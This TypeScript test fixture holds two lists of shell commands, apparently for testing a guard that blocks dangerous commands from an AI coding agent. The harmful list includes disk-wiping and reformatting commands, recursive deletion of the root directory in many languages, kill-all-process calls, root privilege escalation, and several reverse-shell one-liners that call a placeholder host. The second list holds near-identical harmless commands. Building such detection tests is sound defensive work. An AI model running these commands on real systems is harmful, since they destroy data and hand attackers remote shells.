import { lines } from "./lines.ts";

/** The harm of a blocked command, done by another program or by code. */
export const OTHER_HARM: readonly string[] = lines(`
  sgdisk -Z /dev/sda
  sgdisk --zap-all /dev/nvme0n1
  sfdisk --delete /dev/sda
  sfdisk /dev/sda < x
  fdisk /dev/sda <<< w
  parted -s /dev/sda mklabel gpt
  parted /dev/sda rm 1
  cryptsetup luksFormat /dev/sda
  cryptsetup -q luksErase /dev/sda
  badblocks -w /dev/sda
  badblocks -svw /dev/sda
  nvme format /dev/nvme0
  hdparm --user-master u --security-erase p /dev/sda
  mdadm --zero-superblock /dev/sda
  pvremove /dev/sda
  zpool create x /dev/sda
  zfs destroy -r x
  mkexfatfs /dev/sda
  ddrescue x /dev/sda
  pv x -o /dev/sda
  qemu-img convert x /dev/sda
  dd if=x of=../../../dev/sda
  python3 -c 'open("/dev/sda","wb").write(b"x")'
  perl -e 'open F,">/dev/sda"'
  gosu root id
  su-exec root id
  s6-setuidgid x id
  sudo-rs id
  dzdo id
  pfexec id
  sg root id
  newgrp root
  setpriv --reuid 0 id
  setpriv --reuid=root id
  systemd-run --uid=0 id
  sgdisk -Z -p /dev/sda
  sgdisk -p -l backup /dev/sda
  sfdisk -l --delete /dev/sda
  parted -s /dev/sda mklabel gpt print
  parted -s /dev/sda print rm 1
  nvme write-zeroes /dev/nvme0n1
  wipe /
  trash /
  trash-put ~
  gio trash /
  gio remove /etc
  rsync -r --remove-source-files /etc/ x
  rsync -r --remove-source-files --delete empty/ /
  git -C / clean -fdx
  git --work-tree=/ clean -fdx
  git --work-tree=/ checkout -f
  GIT_WORK_TREE=/ git clean -fdx
  git clean -fdx /
  ruby -rfileutils -e 'FileUtils.remove_dir "/"'
  perl -MFile::Path=remove_tree -e 'remove_tree("/etc")'
  python3 -c 'from shutil import rmtree as r;r("/")'
  python3 -c 'import shutil;p="/";shutil.rmtree(p)'
  python3 -c 'import shutil;base="/home";path="x";shutil.rmtree(base, True)'
  node -e 'let p="/";fs.rmSync(p,{recursive:true,force:true})'
  emacs --batch --eval '(delete-directory "/" t)'
  Rscript -e 'unlink("/",recursive=TRUE)'
  julia -e 'rm("/",recursive=true)'
  tclsh <<< 'file delete -force /'
  pwsh -c 'Remove-Item -Recurse -Force /'
  fuser -km /
  fuser -k /
  perl -e 'kill 9,-1'
  perl -e 'kill "KILL", -1'
  perl -e 'kill KILL => -1'
  perl -e 'kill -9, -1'
  cryptsetup luksFormat /dev/vg0/root
  cryptsetup luksFormat UUID=a-b
  nvme format nvme0n1
  python3 -c 'import shutil;p="/";shutil.rmtree(path=p)'
  python3 -c 'import shutil;p="/";shutil.rmtree( p )'
  python3 -c 'import os;os.kill(-1,9)'
  mkfifo f; cat f | sh -i 2>&1 | nc h 1 > f
  rm -f f; mkfifo f; sh < f | nc -l 1 > f
  mkfifo f; sh -i < f 2>&1 | openssl s_client -connect h:1 > f
  python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("h",1));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")'
  perl -e 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(1,inet_aton("h")));open(STDIN,">&S");exec("sh -i")'
  ruby -rsocket -e 'exec "sh -i <&3 >&3" if f=TCPSocket.new("h",1)'
  php -r '$s=fsockopen("h",1);exec("sh <&3 >&3");'
  ruby -rsocket -e 's=TCPSocket.new("h",1); system("sh -i 0>&3 1>&3 2>&3")'
  python3 -c 'import os;os.kill( -1 , 9)'
  awk 'BEGIN{s="/inet/tcp/0/h/1";while((s|&getline c)>0){while((c|getline)>0)print|&s}}'
`);

/** The same programs and calls without the harm. */
export const NO_HARM: readonly string[] = lines(`
  sgdisk -p /dev/sda
  sfdisk -d /dev/sda
  fdisk -l /dev/sda
  parted /dev/sda print
  parted -s -m /dev/sda unit MB print free
  sgdisk -i 1 -p /dev/sda
  sgdisk --backup=x /dev/sda
  gdisk -l /dev/sda
  fdisk -l -o Device,Size /dev/sda
  cryptsetup luksFormat disk.img
  ./bench.sh nvme write 4k
  badblocks -w disk.img
  please id
  claude -p "please fix the tests"
  gh pr comment 3 -b "please merge this"
  tmux display-message "please wait"
  bd create "trash / cleanup page"
  bd create "wipe / reset the cache"
  rsync -r --remove-source-files --delete a/ b
  parted -l
  cryptsetup status x
  badblocks /dev/sda
  nvme list
  mdadm --detail /dev/md0
  zpool status
  zfs list
  pv x
  pv /dev/sda > x
  pv x > y
  qemu-img convert a.img b.qcow2
  qemu-img info /dev/sda
  dd if=x of=../dev/y
  python3 -c 'print(open("/dev/sda","rb").read(1))'
  sg run -p 'foo' src
  sg scan
  newgrp developers
  setpriv --no-new-privs ls
  setpriv --reuid 1000 ls
  systemd-run --user ls
  trash build
  gio trash build
  gio open x
  rsync -r --remove-source-files a/ b
  git clean -fdx
  git clean -fdx build
  git -C sub clean -fd
  git -C / status
  git reset --hard
  git checkout -f main
  python3 -c 'import shutil; shutil.rmtree("build")'
  python3 -c 'import shutil; shutil.rmtree("build"); print("/".join(["a"]))'
  python3 -c 'import shutil; p="build"; shutil.rmtree(p); print("/")'
  node -e 'fs.rmSync("dist",{recursive:true}); console.log("a".split("/"))'
  fuser -k 3000/tcp
  fuser x
  perl -e 'kill 9, 123'
  python3 -c 'import os;os.kill(123,9)'
  python3 -c "import subprocess; subprocess.run('kill -1 1234', shell=True)"
  python3 -c "import shutil; p = '/'; path = 'build'; shutil.rmtree(path)"
  python3 -c "import shutil; base = '/home'; shutil.rmtree(base + '/me/app/build')"
  python3 -c 'import socket,os;s=socket.socket();s.connect(("h",1));os.system("npm test 2>&1")'
  echo ls | sh
  cat list | nc h 1
  python3 -c 'import socket;s=socket.socket();s.connect(("h",1));print(s.recv(9))'
  python3 -c 'import socket;print(socket.gethostname())'
`);
